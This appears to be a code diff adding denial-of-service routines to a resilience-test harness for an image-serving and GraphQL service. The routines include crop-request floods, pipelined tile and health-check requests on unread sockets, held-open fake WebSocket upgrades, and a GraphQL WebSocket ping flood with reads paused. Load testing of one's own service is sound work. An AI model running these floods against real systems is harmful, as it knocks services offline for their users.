@@ -41,6 +41,13 @@ function holdOpen(connections: number, target: Target, begin: (socket: Socket) =
 const head = (method: string, path: string, rest = "") =>
   `${method} ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\n${rest}\r\n`;
 
+const upgrade = [
+  "Connection: Upgrade",
+  "Upgrade: websocket",
+  "Sec-WebSocket-Version: 13",
+  "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n",
+].join("\r\n");
+
 const introspection = `query { ${Array.from({ length: 250 }, (_, index) => `a${index}: __schema { ...F }`).join(" ")} }
   fragment F on __Schema { types { name fields { name args { name type { name } } type { name } } } }`;
 
@@ -69,6 +76,22 @@ export const attacks: Record<string, (target: Target) => void> = {
       const region = `${count % 97},${count % 89},${1200 + (count++ % 1000)},1200`;
       return send({ ...target, path: `${target.service}/${region}/max/0/default.jpg` });
     }),
+  "narrow cuts": (target) =>
+    repeat(50, () =>
+      send({ ...target, path: `${target.service}/full/1,${500 + (count++ % 1000)}/0/default.jpg` }),
+    ),
+  "tiles that nobody reads": (target) =>
+    holdOpen(60, target, (socket) => {
+      socket.pause();
+      socket.write(head("GET", `${target.service}/0,0,512,512/512,512/0/default.jpg`).repeat(600));
+    }),
+  "pipelined probes": (target) =>
+    holdOpen(20, target, (socket) => {
+      socket.resume();
+      socket.write(head("GET", "/healthz").repeat(1_900));
+    }),
+  "pages at made-up addresses": (target) =>
+    repeat(20, () => send({ ...target, path: `/?made-up=${count++}` })),
   "bodies that never end": (target) =>
     holdOpen(1_500, target, (socket) => {
       const length = "Content-Type: application/json\r\nContent-Length: 400000\r\n";
@@ -76,6 +99,27 @@ export const attacks: Record<string, (target: Target) => void> = {
       const drip = setInterval(() => socket.write("x"), 5_000);
       socket.on("close", () => clearInterval(drip));
     }),
+  "WebSockets where there are none": (target) =>
+    holdOpen(1_000, target, (socket) => socket.write(head("GET", "/works", upgrade))),
+  "pings that nobody reads": ({ url, from }) => {
+    const ping = JSON.stringify({ type: "ping", payload: { a: "x".repeat(7_900) } });
+    const open = () => {
+      const socket = new WebSocket(`${url}/graphql`, "graphql-transport-ws", {
+        localAddress: from,
+      });
+      socket.on("error", () => undefined);
+      socket.on("close", () => setTimeout(open, 200));
+      socket.on("open", () => {
+        socket.send(JSON.stringify({ type: "connection_init" }));
+        socket.pause();
+        const sending = setInterval(() => {
+          if (socket.bufferedAmount < 2 ** 20) for (let n = 0; n < 64; n += 1) socket.send(ping);
+        }, 10);
+        socket.on("close", () => clearInterval(sending));
+      });
+    };
+    for (let index = 0; index < 20; index += 1) open();
+  },
   "distinct subscriptions": ({ url, from }) => {
     const query = "subscription ($id: ID!) { notesChanged(imageId: $id) { __typename } }";
     const open = () => {
